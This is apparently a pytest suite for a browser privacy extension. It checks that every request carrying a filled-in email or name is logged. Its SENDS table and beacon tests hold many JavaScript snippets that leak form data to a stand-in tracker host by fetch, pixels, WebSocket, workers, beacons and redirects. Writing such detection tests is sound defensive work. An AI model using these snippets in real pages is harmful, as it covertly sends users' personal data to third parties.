"""Which requests become transmissions and contacts: exactly those that the servers received, hop by hop."""

import socket
import time
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, Final
from urllib.parse import quote

import pytest

from companion.control import SetException
from companion.protocol import Done
from tests.browsers import Browser, Page
from tests.house.stage import Stage, fill_page, wait_until
from tests.house.truth import differences, logged_third_parties, received_values, third_parties
from tests.page.conftest import Serve
from tests.page.test_races import SIGN_UP

FRAME: Final = "<iframe name=sink hidden></iframe>"
SHOP, PIXELS = "shop.localhost", "pixels.localhost"
MARK: Final = (SHOP, SHOP, "PUT", "url", "given-name")
LONG: Final = f"{'a' * 60}." * 3 + f"{'a' * 53}.{SHOP}"
Sighting = tuple[str, str, str, str]


@dataclass
class Disclosed:
    """A page on which a form has just been filled, and the values that it got."""

    stage: Stage
    page: Page
    values: dict[str, str]
    since: float = 0.0

    def send(self, script: str) -> None:
        """Have the page run a script, then send one last request, and wait until that is in the log."""
        self.stage.site.clear()
        self.since = time.time() * 1000
        self.page.evaluate(f"async () => {{ {script} }}")
        self.page.evaluate("async () => { await fetch(`/mark?first=${first}`, { method: 'PUT' }) }")
        wait_until(lambda: any(row["method"] == "PUT" for row in self.transmissions()))

    def transmissions(self) -> list[dict[str, Any]]:
        """The transmissions that the log has of this script."""
        return [row for row in self.stage.tables(SHOP)["transmissions"] if row["at"] >= self.since]


@pytest.fixture(scope="module")
def disclosed(stage: Stage, browser: Browser, serve: Serve) -> Iterator[Disclosed]:
    """A filled page of the shop, where protection is paused: all that the page sends is to leave."""
    stage.say(SetException(SHOP, "pause"), Done)
    disclosed = disclose(stage, browser, serve(SIGN_UP + FRAME))
    yield disclosed
    disclosed.page.close()
    stage.say(SetException(SHOP, "pause", on=False), Done)


def disclose(stage: Stage, browser: Browser, url: str) -> Disclosed:
    """Fill a page with that form in a new tab, and give it the means that the scripts use."""
    with socket.create_server(("127.0.0.1", 0)) as refusing:
        port = refusing.getsockname()[1]
    for path in ("/sink", "/other"):
        stage.site.serve(path, "", name="pixels")
        stage.site.serve(path, "")
    page = browser.open(url)
    fill_page(browser, page)
    page.wait_for("document.querySelector('[name=email]').value !== ''")
    page.evaluate(
        """(pixels, dead) => Object.assign(window, {
          em: document.querySelector("[name=email]").value, first: document.querySelector("[name=first]").value,
          coded: encodeURIComponent(document.querySelector("[name=email]").value), pixels, dead,
          port: location.port, post: { method: "POST", mode: "no-cors" },
          loaded: (element) => new Promise((done) => { element.onload = element.onerror = done }),
          async submit(action, method, enctype) {
            const form = document.forms[0].cloneNode(true);
            Object.assign(form, { action, method, enctype, target: "sink" });
            form.querySelector("[name=email]").value = em;
            document.body.append(form);
            const done = loaded(document.querySelector("iframe"));
            HTMLFormElement.prototype.submit.call(form);
            await done;
            form.remove();
          },
        }) && true""",
        stage.site.url("pixels", ""),
        f"http://shop.localhost:{port}",
    )
    values = {
        "alias": str(page.evaluate("em")),
        "given-name": str(page.evaluate("first")),
    }
    return Disclosed(stage, page, values)


def sent(host: str, method: str, channel: str, *names: str) -> list[Sighting]:
    """What a server is to receive."""
    return [(host, method, channel, name) for name in names or ("alias",)]


SENDS: Final = {
    "JSON by fetch": (
        "await fetch(`${pixels}/sink`, { ...post, body: JSON.stringify({ user: { em, first } }) })",
        sent(PIXELS, "POST", "body", "alias", "given-name"),
    ),
    "JSON by XHR": (
        (
            "const xhr = new XMLHttpRequest(); xhr.open('POST', '/sink');"
            "xhr.send(JSON.stringify({ em })); await loaded(xhr)"
        ),
        sent(SHOP, "POST", "body"),
    ),
    "form data": (
        (
            "const body = new FormData(); body.append('em', em); body.append('first', first);"
            "await fetch('/sink', { ...post, body })"
        ),
        sent(SHOP, "POST", "body", "alias", "given-name"),
    ),
    "form data with a file": (
        (
            "const body = new FormData(); body.append('em', em); body.append('file', new File(['x'], 'x.txt'));"
            "await fetch('/sink', { ...post, body })"
        ),
        sent(SHOP, "POST", "body"),
    ),
    "parameters": (
        "await fetch(`${pixels}/sink`, { ...post, body: new URLSearchParams({ em, first }) })",
        sent(PIXELS, "POST", "body", "alias", "given-name"),
    ),
    "a value as a name": (
        "await fetch('/sink', { ...post, body: new URLSearchParams({ [em]: 1 }) })",
        sent(SHOP, "POST", "body"),
    ),
    "text": ("await fetch(`${pixels}/sink`, { ...post, body: `Mail: ${em}` })", sent(PIXELS, "POST", "body")),
    "bytes": ("await fetch('/sink', { ...post, body: new TextEncoder().encode(em) })", sent(SHOP, "POST", "body")),
    "kept alive": ("await fetch('/sink', { ...post, keepalive: true, body: em })", sent(SHOP, "POST", "body")),
    "query": (
        "await fetch(`/sink?em=${coded}&first=${first}`)",
        sent(SHOP, "GET", "url", "alias", "given-name"),
    ),
    "path": ("await fetch(`/sink/${coded}/x`)", sent(SHOP, "GET", "url")),
    "address and body": (
        "await fetch(`/sink?em=${coded}`, { ...post, body: em })",
        sent(SHOP, "POST", "url") + sent(SHOP, "POST", "body"),
    ),
    "image of a third party": (
        "const image = new Image(); image.src = `${pixels}/collect?em=${coded}`; await loaded(image)",
        sent(PIXELS, "GET", "url"),
    ),
    "script of a third party": (
        (
            "const script = document.createElement('script'); script.src = `${pixels}/sink?em=${coded}`;"
            "document.head.append(script); await loaded(script)"
        ),
        sent(PIXELS, "GET", "url"),
    ),
    "frame of a third party": (
        "const frame = document.querySelector('iframe'); frame.src = `${pixels}/sink?em=${coded}`; await loaded(frame)",
        sent(PIXELS, "GET", "url"),
    ),
    "web socket": (
        (
            "const socket = new WebSocket(`${pixels.replace('http', 'ws')}/sink?em=${coded}`);"
            "socket.onopen = () => socket.close();"
            "await new Promise((done) => { socket.onclose = socket.onerror = done })"
        ),
        sent(PIXELS, "GET", "url"),
    ),
    "worker": (
        (
            "const code = `fetch('${pixels}/sink?em=${coded}', { mode: 'no-cors' }).finally(() => postMessage(0))`;"
            "const worker = new Worker(URL.createObjectURL(new Blob([code])));"
            "await new Promise((done) => { worker.onmessage = worker.onerror = done })"
        ),
        sent(PIXELS, "GET", "url"),
    ),
    "form, urlencoded": (
        "await submit('/sink', 'post', 'application/x-www-form-urlencoded')",
        sent(SHOP, "POST", "body", "alias", "given-name"),
    ),
    "form, multipart": (
        "await submit(`${pixels}/sink`, 'post', 'multipart/form-data')",
        sent(PIXELS, "POST", "body", "alias", "given-name"),
    ),
    "form, in the address": ("await submit('/sink', 'get', '')", sent(SHOP, "GET", "url", "alias", "given-name")),
    "a long name": (
        f"await fetch(`http://{LONG}:${{port}}/sink?em=${{coded}}`, {{ mode: 'no-cors' }})",
        sent(LONG, "GET", "url"),
    ),
    "an empty window": (
        (
            "const empty = open('about:blank');"
            "await empty.eval(`fetch('${pixels}/sink?em=${coded}', { mode: 'no-cors' })`); empty.close()"
        ),
        sent(PIXELS, "GET", "url"),
    ),
    "redirect to a third party": (
        "await fetch('/to-pixels', { mode: 'no-cors' })",
        sent(PIXELS, "GET", "url"),
    ),
    "redirect with the value in each hop": (
        "await fetch(`/to-pixels?em=${coded}`, { mode: 'no-cors' })",
        sent(SHOP, "GET", "url") + sent(PIXELS, "GET", "url"),
    ),
    "redirect of a body": (
        "await fetch('/with-body', { ...post, body: em })",
        sent(SHOP, "POST", "body") + sent(PIXELS, "POST", "body"),
    ),
    "redirect into nothing": (
        "try { await fetch(`/to-nothing?em=${coded}`, { mode: 'no-cors' }) } catch {}",
        sent(SHOP, "GET", "url"),
    ),
    "refused connection": ("try { await fetch(`${dead}/sink?em=${coded}`) } catch {}", []),
    "nothing of it": ("await fetch(`${pixels}/sink?em=nobody%40example.org`, { mode: 'no-cors' })", []),
    "a part of it": ("await fetch(`/sink?user=${em.split('@')[0]}&domain=${em.split('@')[1]}`)", []),
    "behind the mark, which stays here": (
        "const frame = document.querySelector('iframe'); frame.src = `/sink#em=${em}`; await loaded(frame)",
        [],
    ),
}


@pytest.mark.parametrize("name", SENDS)
def test_transmissions(stage: Stage, disclosed: Disclosed, name: str) -> None:
    """The log has each value in each request that a server received, and no other."""
    script, expected = SENDS[name]
    collect = stage.site.url("pixels", f"/collect?em={quote(disclosed.values['alias'])}")
    stage.site.serve("/to-pixels", "", headers={"Location": collect}, status=302)
    stage.site.serve("/with-body", "", headers={"Location": stage.site.url("pixels", "/sink")}, status=307)
    stage.site.serve("/to-nothing", "", headers={"Location": str(disclosed.page.evaluate("dead"))}, status=302)
    disclosed.send(script)
    truth = received_values(stage.site.received, disclosed.values)
    assert Counter(expected) == Counter((host, *how) for _, host, *how in (truth - Counter([MARK])).elements())
    assert [] == differences(stage.site.received, disclosed.values, disclosed.transmissions())


def test_odd_names(stage: Stage, disclosed: Disclosed) -> None:
    """A page cannot keep a request out of the log by an odd host or method; not every browser asks for such a host."""
    disclosed.send(
        "await fetch(`http://a$b.shop.localhost:${port}/sink?em=${coded}`, { mode: 'no-cors' }).catch(() => {});"
        "await fetch(`/sink?em=${coded}`, { method: 'A'.repeat(65) }).catch(() => {})"
    )
    name, got = "a$b.shop.localhost", {request.host for request in stage.site.received}
    wait_until(lambda: name in got or "failed" in [row["outcome"] for row in disclosed.transmissions()])
    rows = [tuple(row[key] for key in ("recipient", "method", "outcome")) for row in disclosed.transmissions()]
    assert [(name, "GET", "gone" if name in got else "failed"), (SHOP, "A" * 64, "gone")] == rows[:2]


@pytest.mark.parametrize("method", ["PATCH", "DELETE", "OPTIONS"])
def test_bodies_of_other_methods(stage: Stage, browser: Browser, disclosed: Disclosed, method: str) -> None:
    """A body is searched whatever the method, or where the browser does not show it, logged as unreadable."""
    before = len(stage.tables(SHOP)["unreadable"])
    disclosed.send(f"await fetch('/sink', {{ method: '{method}', body: em }})")
    assert Counter([(SHOP, SHOP, method, "body", "alias"), MARK]) == received_values(
        stage.site.received, disclosed.values
    )
    if browser.name == "chromium":
        wait_until(lambda: len(stage.tables(SHOP)["unreadable"]) > before)
        rows = stage.tables(SHOP)["unreadable"][before:]
        assert {(SHOP, "not-shown")} == {(row["host"], row["why"]) for row in rows}
    else:
        assert [] == differences(stage.site.received, disclosed.values, disclosed.transmissions())


BLOCK: Final = """
(conditions) => chrome.declarativeNetRequest.updateSessionRules({
  removeRuleIds: [1, 2],
  addRules: conditions.map((condition, index) => (
    { id: index + 1, priority: 2000, action: { type: "block" }, condition }
  )),
})
"""


def test_blocked_requests(stage: Stage, browser: Browser, disclosed: Disclosed) -> None:
    """A request that somebody blocks is never logged as gone, nor its host as a contact, unless it had left."""
    answered = {"urlFilter": "/answered", "responseHeaders": [{"header": "content-type"}]}
    browser.background_eval(BLOCK, [{"urlFilter": "/asked"}, *([answered] if browser.name == "chromium" else [])])
    try:
        disclosed.send(
            "for (const host of ['asked', 'answered'])"
            "await fetch(`http://${host}.localhost:${port}/${host}?em=${coded}`, { mode: 'no-cors' }).catch(() => {})"
        )
    finally:
        browser.background_eval(BLOCK, [])
    assert [] == differences(stage.site.received, disclosed.values, disclosed.transmissions())
    expected = [("answered.localhost", "gone"), ("asked.localhost", "stopped")]
    wait_until(
        lambda: (
            expected
            == sorted((row["host"], row["outcome"]) for row in disclosed.transmissions() if row["host"] != SHOP)
        )
    )
    wait_until(lambda: "answered.localhost" in {row["host"] for row in stage.tables(SHOP)["contacts"]})
    contacts = [row for row in stage.tables(SHOP)["contacts"] if row["host"] == "asked.localhost"]
    assert {(0, 1)} == {(row["requests"], row["stopped"]) for row in contacts}


def test_failed_request(disclosed: Disclosed) -> None:
    """A value in a request that nobody took is logged as failed."""
    disclosed.send("try { await fetch(`${dead}/sink?em=${coded}`) } catch {}")
    wait_until(lambda: "failed" in [row["outcome"] for row in disclosed.transmissions()])
    assert ["failed", "gone"] == sorted(row["outcome"] for row in disclosed.transmissions())


BEACONS: Final = {
    "text": "em",
    "form data": "((data) => (data.append('em', em), data))(new FormData())",
    "blob": "new Blob([em])",
}


@pytest.mark.parametrize("name", BEACONS)
def test_beacons(stage: Stage, disclosed: Disclosed, name: str) -> None:
    """A beacon is logged with what it carried, whatever it was made of."""
    stage.site.clear()
    disclosed.send(f"navigator.sendBeacon(`${{pixels}}/sink`, {BEACONS[name]})")
    stage.site.wait_for(lambda request: request.path == "/sink")
    wait_until(lambda: [] == differences(stage.site.received, disclosed.values, disclosed.transmissions()))
    assert [(PIXELS, "POST", "body")] == [
        (row["host"], row["method"], row["channel"]) for row in disclosed.transmissions() if row["method"] != "PUT"
    ]


def test_too_big_body(stage: Stage, disclosed: Disclosed) -> None:
    """A body that is too big to be searched is logged as unreadable."""
    disclosed.send("await fetch(`${pixels}/sink`, { ...post, body: em + ' '.repeat(5 << 20) })")
    wait_until(lambda: (PIXELS, "too-big") in {(row["host"], row["why"]) for row in stage.tables(SHOP)["unreadable"]})


def test_contacts(stage: Stage, disclosed: Disclosed) -> None:
    """Third parties that a page with a disclosure talks to are logged, with a value or without, and nobody else."""
    disclosed.send(
        "for (const host of ['cdn', 'news']) await fetch(pixels.replace('pixels', host), { mode: 'no-cors' })"
    )
    others = third_parties(stage.site.received, SHOP)

    def logged() -> set[str]:
        rows = stage.tables(SHOP)["contacts"]
        return logged_third_parties(row for row in rows if row["last_seen"] >= disclosed.since)

    assert {"cdn.localhost", "news.localhost"} == others
    wait_until(lambda: others <= logged())
